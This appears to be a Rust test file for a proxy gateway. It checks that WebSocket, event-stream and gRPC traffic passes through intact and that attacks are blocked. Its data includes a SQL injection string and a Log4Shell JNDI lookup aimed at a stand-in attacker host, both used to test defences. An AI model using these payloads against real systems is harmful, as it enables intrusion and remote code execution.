//! Streams go on while they are inspected no further than their heads.

use super::house;
use crate::client::{VERSIONS, Version};
use crate::exchange::upstream::{Play, Upstream};
use crate::exchange::{Ask, End, grpc_frame};
use bytes::Bytes;
use http::{HeaderMap, HeaderValue, Request, Response};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::thread;
use std::time::Duration;
use tungstenite::client::IntoClientRequest;
use tungstenite::{Error, HandshakeError, Message, WebSocket};

#[test]
fn websocket_messages_come_back_as_they_were_sent() {
    let house = house();
    let upstream = echo_websockets();
    let mut socket = open(house.address, upstream, "/chat?room=1").unwrap();
    let messages = [
        Message::text("hello"),
        Message::binary(vec![0xA5; 1 << 20]),
        Message::text("1' OR '1'='1"),
    ];
    let many = (0..200).map(|number| Message::text(format!("message {number}")));
    for message in messages.into_iter().chain(many) {
        socket.send(message.clone()).unwrap();
        assert_eq!(socket.read().unwrap(), message);
    }
    socket.close(None).unwrap();
    let closed = loop {
        if let Err(error) = socket.read() {
            break error;
        }
    };
    assert!(matches!(closed, Error::ConnectionClosed), "{closed}");

    let attack = "/chat?room=1'%20OR%20'1'='1";
    let refused = open(house.address, upstream, attack).map(|_| "the attack passed");
    assert_eq!(refused, Err(403));
}

/// A WebSocket, or the status that the handshake was answered with.
fn open(
    gateway: SocketAddr,
    upstream: SocketAddr,
    path: &str,
) -> Result<WebSocket<TcpStream>, u16> {
    let stream = TcpStream::connect(gateway).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(20)))
        .unwrap();
    let mut request = format!("ws://shop.example{path}")
        .into_client_request()
        .unwrap();
    let upstream = HeaderValue::from_str(&upstream.to_string()).unwrap();
    request.headers_mut().insert("x-upstream", upstream);
    match tungstenite::client(request, stream) {
        Ok((socket, _)) => Ok(socket),
        Err(HandshakeError::Failure(Error::Http(answer))) => Err(answer.status().as_u16()),
        Err(error) => panic!("{error}"),
    }
}

fn echo_websockets() -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            thread::spawn(move || {
                let mut socket = tungstenite::accept(stream).unwrap();
                // Until the client closes.
                while let Ok(message) = socket.read() {
                    if message.is_text() || message.is_binary() {
                        socket.send(message).unwrap();
                    }
                }
            });
        }
    });
    address
}

/// The upstream sends an event when the client has the one before, so none may be kept.
#[test]
fn events_arrive_one_by_one() {
    let house = house();
    for version in VERSIONS {
        let play = Play::events(&["data: 1\n\n", "data: 2\n\n", "data: 3\n\n", "data: 4\n\n"]);
        let upstream = Upstream::start(&play);
        let got = Ask::get("/events").exchange(version, house.address, &upstream);
        assert_eq!(
            (got.status, got.end),
            (Some(200), End::Complete),
            "{version:?}\n{}",
            house.log()
        );
        assert_eq!(got.body, play.body);
    }
}

#[test]
fn a_unary_call_is_answered_and_an_attack_in_its_metadata_is_not() {
    let house = house();
    let call = || Ask::grpc("an order");
    let attack = call().header("x-api-version", "${jndi:ldap://attacker.example/a}");
    for (ask, status) in [(call(), "0"), (attack, "7")] {
        let play = Play::grpc("", "a receipt");
        let upstream = Upstream::start(&play);
        let got = ask.exchange(Version::Http2, house.address, &upstream);
        assert_eq!(got.header("grpc-status"), Some(status), "{}", house.log());
        assert_eq!(got.body == play.body, status == "0");
        assert_eq!(upstream.seen().connections > 0, status == "0");
    }
}

/// Each message goes up only when the one before has come back: neither direction may be kept.
#[test]
fn messages_of_a_call_go_both_ways_at_once() {
    let house = house();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let upstream = listener.local_addr().unwrap();
    thread::spawn(move || block_on(echo_calls(listener)));
    let talk = talk(house.address, upstream);
    let status = block_on(async { tokio::time::timeout(Duration::from_secs(20), talk).await });
    assert_eq!(status.unwrap(), "0", "{}", house.log());
}

fn block_on<T>(work: impl Future<Output = T>) -> T {
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    runtime.block_on(work)
}

async fn talk(gateway: SocketAddr, upstream: SocketAddr) -> String {
    let stream = tokio::net::TcpStream::connect(gateway).await.unwrap();
    let (sender, connection) = h2::client::handshake(stream).await.unwrap();
    tokio::spawn(connection);
    let head = Request::post("http://shop.example/grpc/shop.Chat/Talk")
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .header("x-upstream", upstream.to_string())
        .body(())
        .unwrap();
    let mut sender = sender.ready().await.unwrap();
    let (answer, mut output) = sender.send_request(head, false).unwrap();
    // The call is open in both directions before the first message.
    let answer = answer.await.unwrap();
    assert_eq!(answer.status(), 200);
    let mut input = answer.into_body();
    for number in 0..50 {
        let frame = grpc_frame(&format!("message {number}"));
        output.send_data(frame.clone().into(), false).unwrap();
        let mut back = Vec::new();
        while back.len() < frame.len() {
            let bytes = input.data().await.unwrap().unwrap();
            input.flow_control().release_capacity(bytes.len()).unwrap();
            back.extend_from_slice(&bytes);
        }
        assert_eq!(back, frame);
    }
    output.send_data(Bytes::new(), true).unwrap();
    assert!(input.data().await.is_none());
    let trailers = input.trailers().await.unwrap().unwrap();
    trailers["grpc-status"].to_str().unwrap().to_owned()
}

async fn echo_calls(listener: TcpListener) {
    let (stream, _) = listener.accept().unwrap();
    stream.set_nonblocking(true).unwrap();
    let stream = tokio::net::TcpStream::from_std(stream).unwrap();
    let mut connection = h2::server::handshake(stream).await.unwrap();
    while let Some(Ok((request, mut answer))) = connection.accept().await {
        tokio::spawn(async move {
            let head = Response::builder().header("content-type", "application/grpc");
            let mut output = answer.send_response(head.body(()).unwrap(), false).unwrap();
            let mut input = request.into_body();
            while let Some(Ok(bytes)) = input.data().await {
                input.flow_control().release_capacity(bytes.len()).unwrap();
                output.send_data(bytes, false).unwrap();
            }
            let mut trailers = HeaderMap::new();
            trailers.insert("grpc-status", HeaderValue::from_static("0"));
            output.send_trailers(trailers).unwrap();
        });
    }
}
